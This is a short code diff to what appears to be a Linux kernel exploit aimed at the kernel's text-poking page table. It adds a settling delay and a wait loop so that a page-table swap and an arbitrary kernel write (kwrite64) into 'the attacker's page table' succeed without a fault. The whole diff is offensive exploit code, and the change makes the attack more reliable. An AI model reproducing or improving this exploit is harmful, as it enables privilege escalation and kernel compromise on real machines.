@@ -12,6 +12,7 @@
 
 #define POLL_ROUNDS	400000	/* between two looks at the clock */
 #define PATIENCE	30	/* seconds */
+#define SETTLE		300000	/* microseconds, until freed programs are erased */
 
 static int walk_poking_mm(uint64_t addr, int level, struct slot *slot)
 {
@@ -40,10 +41,20 @@ static uint64_t wait_for_entry(volatile uint64_t *entry)
 	return 0;
 }
 
+/* Who takes the table away while the kernel pokes through it makes that fault. */
+static void wait_for_quiet(volatile uint64_t *entry)
+{
+	int i;
+
+	usleep(SETTLE);
+	for (i = 0; i < 10 && *entry; i++)
+		usleep(SETTLE);
+}
+
 enum outcome poking_mm(void)
 {
 	uint64_t addr;
-	uint64_t phys, seen, *table;
+	uint64_t phys, seen, *table, *entry;
 	struct slot slot;
 	int err;
 
@@ -60,8 +71,10 @@ enum outcome poking_mm(void)
 	if (err)
 		return lost("the page table was not replaced: %d", err);
 	helper_patch_text();
-	seen = wait_for_entry(table + addr / PAGE_SIZE % table_entries());
+	entry = table + addr / PAGE_SIZE % table_entries();
+	seen = wait_for_entry(entry);
 	helper_stop();
+	wait_for_quiet(entry);
 	kwrite64(slot.slot, slot.value);
 	if (!seen)
 		return lost("no entry showed up in the attacker's page table");
